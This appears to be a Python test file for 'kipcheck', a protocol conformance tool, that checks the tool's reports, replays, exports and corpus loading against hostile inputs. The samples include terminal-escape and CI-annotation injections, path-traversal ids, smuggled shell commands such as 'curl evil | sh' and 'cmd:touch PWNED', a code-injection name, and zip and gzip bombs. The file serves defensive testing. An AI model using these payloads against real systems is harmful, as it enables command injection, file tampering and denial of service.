"""Failure files, ledgers, jars, corpora and testees of somebody who means harm: what the user reads of each.

Nothing in them is started, leaves its folder, steers a terminal, commands a CI service or looks like a verdict.
"""

import gzip
import json
import sys
from collections.abc import Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any, NamedTuple
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from kipcheck import reports
from kipcheck.conformance.campaign import rows
from kipcheck.conformance.campaign.corpus import entries
from kipcheck.conformance.campaign.corpus.entries import Damaged, Snapshot
from kipcheck.conformance.campaign.corpus.snapshots import SnapshotMissing, SnapshotStore
from kipcheck.conformance.campaign.manifest import Manifest
from kipcheck.conformance.campaign.plan import Aim, Plan
from kipcheck.conformance.campaign.rows import Kept
from kipcheck.conformance.cli import main
from kipcheck.conformance.core.ledger import NAME, read
from kipcheck.conformance.core.values.untrusted_text import (
    TARGETS,
    harmless,
    harmless_json,
    harmless_line,
    is_data,
    one_line,
)
from kipcheck.conformance.engine.execution import run
from kipcheck.conformance.engine.execution.progress import Progress, show_traceback
from kipcheck.conformance.targets import registry
from kipcheck.conformance.targets.session import Limits
from kipcheck.conformance.targets.testee import Testee
from kipcheck.conformance.targets.toolchains import environments
from kipcheck.conformance.targets.transport.pipe import Command
from kipcheck.conformance.tests.support.hostile.texts import EVIL, FORGED, live
from kipcheck.conformance.tests.support.ledgers import FAILURE, HEADER, everything, write
from kipcheck.conformance.tests.support.matrices import matrix
from kipcheck.conformance.wire.definitions import in_jar


class Seen(NamedTuple):
    code: int
    out: str
    err: str


def kipcheck(capsys: pytest.CaptureFixture[str], *arguments: str) -> Seen:
    """What a user sees, in which nothing is live."""
    code = main.run(arguments)
    seen = Seen(code, *capsys.readouterr())
    assert (live(seen.out), live(seen.err)) == ([], []), arguments
    return seen


# ---- the words


def test_what_is_live_is_seen() -> None:
    for each in ("\x1b", "\x9b", "\0", "\u202e", "\ud800", "a\n ::error::x", "\u00a0::x", "##[x]", "a##vso[x]", FORGED):
        assert live(each), each
        assert not live(harmless(one_line(f"x{each}"))), each
        assert not live(harmless_line(each)) or each == FORGED
        assert not live(harmless_json(json.dumps([each], ensure_ascii=False)))
    assert one_line(EVIL) == one_line(one_line(EVIL)) and harmless(EVIL) == harmless(harmless(EVIL))


def test_what_is_no_harm_is_left_as_it_is() -> None:
    for each in ("1.0.0-rc1+b", "Ungültig: é 日本 🎲", "a::b", "x ::y", "# head", "## head [x]", "C:\\temp"):
        assert (one_line(each), harmless(each), harmless_json(each)) == (each, each, each)
    assert json.loads(harmless_json(json.dumps(EVIL, ensure_ascii=False))) == EVIL


def test_progress_and_tracebacks_are_harmless(capsys: pytest.CaptureFixture[str]) -> None:
    progress = Progress()
    progress.plan(f"cmd:x {EVIL}", [("wire/round-trip", 2)])
    progress.begin()
    progress.end(3, 1)
    progress.say(EVIL)
    progress.note(EVIL)
    try:
        raise ValueError(EVIL)
    except ValueError:
        show_traceback()
    shown = capsys.readouterr().err
    assert live(shown) == []
    assert len(shown.splitlines()) == 3 + 3 + len(EVIL.splitlines()) + 1, "three lines, and a traceback"
    assert all(line.startswith("| ") for line in shown.splitlines()[3:])


# ---- testees


def command_of(kind: str) -> str:
    return f"cmd:{sys.executable} -m kipcheck.conformance.tests.support.hostile.testee {kind}"


def steered(capsys: pytest.CaptureFixture[str], out: Path, *more: str) -> Seen:
    named = ("--check", "wire/two-readings", "--message", "HeartbeatResponse", "--cases", "8", "--workers", "1")
    return kipcheck(capsys, "run", "--target", command_of("Steers"), *named, "--out", str(out), *more)


@pytest.mark.integration
def test_a_testee_steers_neither_a_terminal_nor_a_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out = tmp_path / "out"
    seen = steered(capsys, out)
    verdicts = [line for line in seen.out.splitlines() if line.startswith(("complete", "INCOMPLETE"))]
    assert seen.code == 1 and len(verdicts) == 1 and verdicts[0] == seen.out.splitlines()[-1]
    assert verdicts[0].partition("; exit ")[2].startswith("1, an unexpected failure")
    assert "\\x1b[2J\\x1b]8;;https://evil.example\\x07" in seen.out and "\\x1b[2J" in seen.err
    files = [each for each in out.rglob("*") if each.is_file()]
    assert {*reports.FILES.values(), NAME} <= {each.name for each in files}
    for each in files:
        assert live(each.read_text("utf-8"), is_log=each.suffix not in (".html", ".xml")) == [], each.name
    for form in reports.FORMS:
        shown = kipcheck(capsys, "report", str(out), "--form", form).out if form not in ("html", "junit") else ""
        assert "evil.example" in shown or form in ("html", "junit", "badge")  # a badge has no words of a testee
    kipcheck(capsys, "triage", str(out))
    kipcheck(capsys, "triage", str(out), "--json")
    failures = read(out / NAME).failures
    assert failures and all(each.reproduce.endswith(f"--target '{command_of('Steers')}'") for each in failures)
    path = out / "failures" / f"{failures[0].id}.json"
    refused = kipcheck(capsys, "replay", str(path))
    assert (refused.code, refused.out) == (2, "")
    assert f"{path} names the target '{command_of('Steers')}', but kipcheck does not" in refused.err
    assert refused.err.endswith(f"use --target '{command_of('Steers')}' or --trust\n")
    assert kipcheck(capsys, "replay", str(path), "--trust").code == 1


def test_what_did_not_start_is_told_in_lines_of_the_report(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    expected = {
        "IsNotHere": ": 1.0\\x1b[2J", "GoesDown": " did not start: crashed: left with exit code 1",
        "BreaksTheProtocol": " broke the protocol at its start: hello.capabilities.1.0\\x1b[2J",
    }  # fmt: skip
    for kind, why in expected.items():
        command = Command((sys.executable, "-m", "kipcheck.conformance.tests.support.hostile.testee", kind))
        found = Testee(kind, command, Limits(grace_s=0.1))
        monkeypatch.setattr(run, "target_of", lambda _, found=found: found)
        seen = kipcheck(capsys, "run", "--target", kind, "--check", "wire/two-readings", "--out", str(tmp_path / kind))
        assert seen.code == 3
        assert f"\n{kind}{why}" in seen.out and f"kipcheck: {kind}{why}" in seen.err
        assert len(seen.err.splitlines()) == 1
        assert live((tmp_path / kind / "summary.md").read_text("utf-8")) == []
    assert f"  | reference: {FORGED}" in reports.render(tmp_path / "GoesDown" / NAME).splitlines()


def test_a_doctor_is_not_infected(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    from kipcheck.conformance.engine.doctor import probes

    first = tuple(probes.PROBES[:4])
    monkeypatch.setattr(probes, "PROBES", first)
    for more in ((), ("--json",)):
        seen = kipcheck(capsys, "doctor", "--target", command_of("Steers"), *more)
        assert "evil.example" in seen.out
    assert len(kipcheck(capsys, "doctor", "--target", command_of("Steers")).out.splitlines()) == len(first) + 1


# ---- failure files

FILED: Mapping[str, Any] = {
    **FAILURE, "format": 1, "target": "reference", "edition": "apache", "guilty_step": 0,
    "case": {
        "check": "wire/two-readings", "edition": "apache", "role": "codec",
        "steps": [{"actor": "codec", "verb": "decode",
                   "body": {"message": "HeartbeatResponse", "version": 0, "hex": "0000"}}],
    },
}  # fmt: skip


def filed(folder: Path, **more: Any) -> Path:
    path = folder / "it.json"
    path.write_text(json.dumps({**FILED, "invariant": "wire/decodes", **more}), "utf-8")
    return path


def test_a_failure_file_starts_nothing_and_leads_nowhere(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    pwned = tmp_path / "PWNED"
    (tmp_path / "out").mkdir()
    case = FILED["case"]
    files: Sequence[tuple[Mapping[str, Any], str]] = (
        ({"id": "../../PWNED"}, "\"id\" is '../../PWNED': the id of a failure is 12 hex digits"),
        ({"id": "0123456789ab\n"}, "\"id\" is '0123456789ab\\n': the id of a failure is 12 hex digits"),
        ({"id": 5}, '"id" is 5: the id of a failure is 12 hex digits'),
        ({"reproduce": "kipcheck replay x; curl evil | sh"}, "it must be a single command of kipcheck"),
        ({"reproduce": "curl evil"}, "\"reproduce\" is 'curl evil': it must be a single command of kipcheck"),
        ({"target": ["cmd:x"]}, 'does not contain a failure: "target" must be a text'),
        ({"case": {**case, "steps": []}}, 'does not contain a failure: "case": '),
        (
            {"case": {**case, "steps": [{"actor": "codec", "verb": "decode", "body": 5}]}},
            'does not contain a failure: "case": ',
        ),
        ({"case": {**case, "role": EVIL}}, 'does not contain a failure: "case": '),
    )
    for more, why in files:
        path = filed(tmp_path, **more)
        for command in (("replay", str(path)), ("export", str(path), "--as", "hex", "--to", str(tmp_path / "out"))):
            seen = kipcheck(capsys, *command)
            assert (seen.code, seen.out) == (2, ""), more
            assert str(path) in seen.err and why in seen.err
    for text in ("[" * 100_000, "5", "\x00"):
        path.write_text(text)
        assert "does not contain a failure" in kipcheck(capsys, "replay", str(path)).err
    for name in (f"cmd:touch {pwned}", f"drill:raise@1,once={pwned}"):
        seen = kipcheck(capsys, "replay", str(filed(tmp_path, target=name)))
        assert seen.code == 2 and f"names the target '{name}', but kipcheck does not" in seen.err
    assert not pwned.exists() and not [*(tmp_path / "out").iterdir()]
    assert kipcheck(capsys, "replay", str(filed(tmp_path, target=f"cmd:touch {pwned}")), "--trust").code == 3
    assert pwned.exists()
    assert kipcheck(capsys, "replay", str(filed(tmp_path, target=EVIL.replace(":", "")))).code == 2
    assert kipcheck(capsys, "replay", str(filed(tmp_path, target=f"cmd:{EVIL}"))).code == 2


def test_a_release_in_a_file_is_nothing_but_a_release() -> None:
    for version in ("-r/tmp/x", "--pre", "1 @ https://x", "git+https://x", "../x", "1;x", "1 x", "1/2", "1\n", ""):
        for name in (f"kafka-python@{version}", f"franz-go@{version}", f"platformatic-kafka@{version}"):
            if version:
                with pytest.raises(LookupError, match="invalid release"):
                    registry.target(name)
        assert not environments.RELEASE.fullmatch(version)
    for name in ("kafka-clients:3.9.2:x", "kafka-clients:../x", "x.y:3.9.2", "kafka-clients:3.9.2@x", "kafka-clients:"):
        with pytest.raises(LookupError):
            registry.target(f"java:{name}")
    for name in ("tcp:192.0.2.1:80", "tcp:evil.example:80"):
        with pytest.raises(LookupError, match="must listen on this machine"):
            registry.target(name)
    assert {*TARGETS} < {*registry.PREFIXES} and not is_data("cmd:x") and not is_data("nosuch:x") and is_data("kio@1.0")


def test_exported_programs_compile_and_start_no_command_that_a_file_names(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    owners = {
        **FILED["case"], "role": "leader",
        "steps": [{"actor": "leader", "verb": "assign", "body": {"assignor": "range", "topics": [], "members": []}}],
    }  # fmt: skip
    quotes = {**FILED["requirements"][0], "text": EVIL + '"""' + "\\", "clause": "'''\\"}
    hostile = {"version": EVIL, "why": f'"""{EVIL}\\', "sentence": f'{EVIL}\\"', "requirements": [quotes]}
    usual = FILED["case"]["steps"][0]
    weird = {**usual, "verb": EVIL, "body": {**usual["body"], EVIL: float("nan")}}
    command = "cmd:./evil --now"
    for form in ("script", "pytest"):
        for case in (FILED["case"], {**FILED["case"], "steps": [weird]}, owners):
            if case is owners and form == "script":
                continue
            path = filed(tmp_path, target=command, case=case, **hostile)
            for more in ((), ("--trust",)):
                seen = kipcheck(capsys, "export", str(path), "--as", form, *more)
                assert seen.code == 0
                names: dict[str, Any] = {"__name__": "exported"}
                exec(compile(seen.out, "exported.py", "exec"), names)  # noqa: S102 - what we wrote
                judged = case is owners
                reported = names["TARGET"] if judged else names["COMMAND"]
                assert reported == ((command if judged else ["./evil", "--now"]) if more else ("" if judged else []))
                assert ("which has to be given" in " ".join(names["__doc__"].split())) == (not more)
                left_out = f"{path} names the command '{command}', which is written only with --trust"
                assert (left_out in seen.err) == (not more)


def test_a_judged_test_takes_the_testee_of_the_environment(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    case = {
        **FILED["case"], "role": "leader",
        "steps": [{"actor": "leader", "verb": "assign", "body": {"assignor": "range", "topics": [], "members": []}}],
    }  # fmt: skip
    seen = kipcheck(capsys, "export", str(filed(tmp_path, target="cmd:./evil", case=case)), "--as", "pytest")
    names: dict[str, Any] = {}
    exec(compile(seen.out, "exported.py", "exec"), names)  # noqa: S102 - what we wrote
    asked: list[object] = []
    monkeypatch.setitem(names, "replay", lambda path, target: asked.append(target))
    with pytest.raises(AssertionError, match="name its command in KIPCHECK_TESTEE"):
        names["test_it_fails_no_more"](tmp_path)
    monkeypatch.setenv("KIPCHECK_TESTEE", "./mine")
    with pytest.raises(AttributeError):
        names["test_it_fails_no_more"](tmp_path)
    assert asked == ["cmd:./mine"]


# ---- ledgers, known lists, campaigns


def test_a_ledger_leads_nowhere(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    for key, value, why in (
        ("id", "../../../PWNED", "\"id\" is '../../../PWNED': the id of a failure is 12 hex digits"),
        ("reproduce", "sh -c evil", "\"reproduce\" is 'sh -c evil': it must be a single command of kipcheck"),
    ):
        out = tmp_path / key / "out"
        path = write(out, ("failure", {**FAILURE, key: value}))
        number = next(n for n, line in enumerate(path.read_text().splitlines(), 1) if '"failure"' in line[:20])
        (out / "list.toml").write_text("")
        for command in (
            ("report", str(out)), ("triage", str(out)), ("merge", str(out), "--out", str(tmp_path / key / "both")),
            ("known", "update", str(out / "list.toml"), "--from", str(out)),
        ):  # fmt: skip
            seen = kipcheck(capsys, *command)
            assert (seen.code, seen.out) == (2, "")
            assert f"{path}:{number}: {why}" in seen.err
    assert not [*tmp_path.rglob("PWNED*")]


def test_a_ledger_forges_no_verdict(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    spoiled = {"version": EVIL, "why": EVIL, "sentence": EVIL, "subject": EVIL, "target": f"x{EVIL}", "check": EVIL}
    lines = [
        (kind, {**line, **{k: v for k, v in spoiled.items() if isinstance(line.get(k), str)}})
        for kind, line in everything()
    ]
    write(tmp_path, *lines, header={**HEADER, "kipcheck": EVIL})
    for form in ("text", "markdown", "json", "sarif"):
        assert "evil.example" in kipcheck(capsys, "report", str(tmp_path), "--form", form).out
    for form in ("html", "junit"):
        assert live(reports.render(tmp_path / NAME, form), is_log=False) == []


def test_a_ledger_of_other_keys_and_types_is_told_in_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "list.toml").write_text("")
    for number, line in enumerate(({"id": FAILURE["id"]}, {**FAILURE, "grade": EVIL}, {**FAILURE, "where": 5})):
        out = tmp_path / str(number)
        write(out, ("failure", line))
        for command in (
            ("report", str(out)), ("triage", str(out)), ("merge", str(out), "--out", str(out / "both")),
            ("known", "update", str(tmp_path / "list.toml"), "--from", str(out)),
        ):  # fmt: skip
            seen = kipcheck(capsys, *command)
            assert seen.code in (0, 1, 2) and len(seen.err.splitlines()) == (seen.code == 2), (line, command, seen)
    assert kipcheck(capsys, "report", str(tmp_path / "0")).code == 2


def test_a_known_list_is_shown_in_lines(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "list.toml"
    stated = f"A reason of some words: {EVIL}".replace("\ud800", "")
    text = json.dumps(stated, ensure_ascii=False).replace("\x7f", "\\u007f")
    path.write_text(
        f'[[deviation]]\ntarget = "kio"\nchecks = ["wire/round-trip"]\ninvariant = "wire/decodes"\nversions = "all"\n'
        f'shape = ["x"]\nreason = {text}\nlink = "https://issues.example.de/1"\n[deviation.where]\n"*" = "*"\n',
        "utf-8",
    )
    seen = kipcheck(capsys, "known", "list", str(path))
    assert seen.code == 0, seen.err
    assert len(seen.out.splitlines()) == 4 and "evil.example" in seen.out
    kipcheck(capsys, "known", "list", str(path), "--json")
    path.write_text(path.read_text("utf-8").replace('target = "kio"', f"target = {text}"), "utf-8")
    assert kipcheck(capsys, "known", "check", str(path)).code == 1


def test_a_matrix_leads_nowhere(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    whole = matrix()
    cells = [{**each, "case": "../../PWNED"} for each in whole["cells"]]
    (tmp_path / "matrix.json").write_text(json.dumps({**whole, "cells": cells}))
    seen = kipcheck(capsys, "report", str(tmp_path), "--form", "all")
    assert (seen.code, seen.out) == (2, "")
    assert f"{tmp_path / 'matrix.json'} is not a result of kipcheck matrix" in seen.err and "../../PWNED" in seen.err
    cells = [{**each, "play": EVIL, "reason": EVIL} for each in whole["cells"]]
    (tmp_path / "matrix.json").write_text(json.dumps({**whole, "cells": cells}))
    for form in ("text", "markdown", "json"):
        assert "evil.example" in kipcheck(capsys, "report", str(tmp_path), "--form", form).out


def test_a_manifest_is_no_terminal(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    plan = Plan("c", (Aim("reference", EVIL),), "apache", ("wire/damage",), "mixed", 0, 5, 1, 5)
    made = replace(Manifest.of(plan, {}, (), {}), kipcheck=EVIL, python=EVIL)
    made.write(tmp_path)
    seen = kipcheck(capsys, "campaign", "--resume", str(tmp_path), "--executor", "inline")
    assert seen.code == 2 and "it was started by kipcheck 1.0\\x1b[2J" in seen.err and len(seen.err.splitlines()) == 1


def test_a_digest_is_no_path(tmp_path: Path) -> None:
    (tmp_path / "campaign" / "corpus").mkdir(parents=True)
    outside = tmp_path / "mine.jsonl.gz"
    outside.write_bytes(b"mine")
    with pytest.raises(SnapshotMissing, match="invalid digest of a snapshot"):
        SnapshotStore(tmp_path / "campaign").snapshot("../../mine")
    assert [*tmp_path.glob("mine*")] == [outside]


def test_a_row_names_no_file_elsewhere() -> None:
    found = {
        "check": "", "invariant": "", "edition": "", "subject": "", "shape": [], "why": "", "case_id": "", "case": "",
        "place": ["x", 1], "value": "", "seed": 0, "number": 0, "kind": "", "cases": 1, "at_case": 0, "where": [],
    }  # fmt: skip
    row = {
        "campaign": "c", "round": 0, "shard": 0, "stage": "reduce", "target": "t", "target_version": "", "engine": "",
        "seed": 0, "planned": 0, "corpus": "", "status": "done",
    }  # fmt: skip
    assert rows.Row.of({**row, "found": [{**found, "line": json.dumps({"id": "0123456789ab"})}]})
    with pytest.raises(ValueError, match="the id of a failure is 12 hex digits"):
        rows.Row.of({**row, "found": [{**found, "line": json.dumps({"id": "../../PWNED"})}]})


# ---- jars and corpora


def jar(path: Path, text: str, name: str = "common/message/Evil.json", copies: int = 1) -> Path:
    with ZipFile(path, "w", ZIP_DEFLATED) as made:
        for number in range(copies):
            made.writestr(name if copies == 1 else f"common/message/{number}.json", text)
    return path


def test_a_jar_names_no_file_and_fills_no_memory(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    whole = {"type": "data", "name": "Evil", "validVersions": "0", "flexibleVersions": "none",
             "fields": [{"name": "field", "type": "int8", "versions": "0+"}]}  # fmt: skip
    assert in_jar(jar(tmp_path / "good.jar", json.dumps(whole)))
    struct = {"name": "x'); evil(", "versions": "0+", "fields": whole["fields"]}
    wrong: Sequence[tuple[str, str]] = (
        (json.dumps({**whole, "name": "../../x"}), "invalid name of a message or a field"),
        (json.dumps({**whole, "name": ["x"]}), "invalid name of a message or a field"),
        (json.dumps({**whole, "name": f"x{EVIL}"}), "invalid name of a message or a field"),
        (json.dumps({**whole, "fields": [{"name": "a\nb", "type": "int8", "versions": "0+"}]}), "nb'"),
        (json.dumps({**whole, "commonStructs": [struct]}), "invalid name of a message or a field"),
        (json.dumps({**whole, "validVersions": "0-99999999"}), "invalid validVersions"),
        ("[" * 100_000, "cannot parse the definition"),
        (" " * (5 << 20), "is too large for a definition"),
    )
    for text, why in wrong:
        path = jar(tmp_path / "evil.jar", text)
        seen = kipcheck(capsys, "corpus", "seeds", "--edition", f"jar:{path}", "--out", str(tmp_path / "out"))
        assert (seen.code, seen.out) == (2, "")
        assert f"{path}: common/message/Evil.json" in seen.err and why in seen.err
    many = jar(tmp_path / "bomb.jar", " " * (4 << 20), copies=17)
    assert many.stat().st_size < 1 << 20
    assert (
        f"{many}: its definitions have more than 64 MiB"
        in kipcheck(capsys, "corpus", "seeds", "--edition", f"jar:{many}", "--out", str(tmp_path / "out")).err
    )
    jar(tmp_path / "evil.jar", "{", name=f"common/message/{EVIL.replace(chr(0), '').replace(chr(0xD800), '')}.json")
    kipcheck(capsys, "corpus", "seeds", "--edition", f"jar:{tmp_path / 'evil.jar'}", "--out", str(tmp_path / "out"))
    assert not (tmp_path / "out").exists()


def test_a_corpus_fills_no_memory_and_holds_texts_and_numbers(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    good = Snapshot((Kept("wire/round-trip", "apache", "HeartbeatResponse", 0, "{}", (1, 2), 1),), frozenset({1, 2}))
    assert Snapshot.load(good.dump()) == good
    monkeypatch.setattr(entries, "LARGEST", 1 << 20)
    (tmp_path / "corpus").mkdir()
    bomb = tmp_path / "corpus" / f"{'0' * 16}.jsonl.gz"
    bomb.write_bytes(gzip.compress(bytes(50 << 20)))
    seen = kipcheck(capsys, "corpus", "info", str(tmp_path))
    assert f"{bomb} is damaged (unpacked it has more than 1 MiB): set aside as {bomb.name}.damaged" in seen.err
    for key, value in (("check", ["x"]), ("steps", "x"), ("version", EVIL), ("keys", [[1]]), ("subject", {"a": 1})):
        header, entry = (json.loads(line) for line in gzip.decompress(good.dump()).splitlines())
        lines = (header, {**entry, key: value})
        with pytest.raises(Damaged):
            Snapshot.load(gzip.compress("".join(f"{json.dumps(each)}\n" for each in lines).encode()))
